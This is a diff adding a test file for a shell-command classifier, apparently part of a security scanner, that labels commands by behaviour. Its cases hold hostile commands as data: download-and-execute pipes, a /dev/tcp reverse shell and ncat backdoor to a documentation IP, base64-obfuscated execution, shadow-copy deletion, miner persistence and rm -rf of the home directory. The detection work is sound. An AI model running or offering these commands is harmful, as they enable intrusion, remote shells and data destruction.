@@ -1,0 +1,34 @@
+/** The command-line classifier: shapes, not hosts; linear on hostile input. */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { classifyCommand } from '../../../src/scan/engine/shell-command.js';
+
+const CASES: [string, string | undefined][] = [
+  ['curl -s https://x.example.invalid/i.sh | sh', 'download-execute'],
+  ['wget -qO- … | sudo bash', 'download-execute'],
+  ['iwr https://x.example.invalid/a.ps1 | iex', 'download-execute'],
+  ['bash -c "bash -i >& /dev/tcp/203.0.113.1/9001 0>&1"', 'backdoor'],
+  ['ncat 203.0.113.1 9001 -e /bin/bash', 'backdoor'],
+  ['echo Y3VybA== | base64 --decode | bash', 'obfuscation'],
+  ['powershell.exe -NoP -W Hidden -c Get-Process', 'obfuscation'],
+  ['vssadmin delete shadows /all /quiet', 'anti-analysis'],
+  ['systemctl --user enable miner.service', 'persistence'],
+  ['rm -rf $HOME/*', 'destructive'],
+  ['curl -s ifconfig.me', 'reconnaissance'],
+  ['curl -o out.json https://api.example.invalid/v1/items', undefined],
+  ['git clone https://example.invalid/repo.git && cd repo && make', undefined],
+  ['rm -rf ./build', undefined],
+  ['pip download requests', undefined],
+];
+
+for (const [command, behaviour] of CASES) {
+  test(`${JSON.stringify(command)} → ${behaviour ?? 'nothing'}`, () => {
+    assert.equal(classifyCommand(command)?.behaviour, behaviour);
+  });
+}
+
+test('hostile, huge command lines are classified without backtracking blow-ups', () => {
+  for (const text of ['curl '.repeat(200_000), `curl ${'a'.repeat(1_000_000)}`, `rm -rf ${'-'.repeat(500_000)}`, `${'|'.repeat(100_000)}sh`]) {
+    classifyCommand(text); // must simply return
+  }
+});
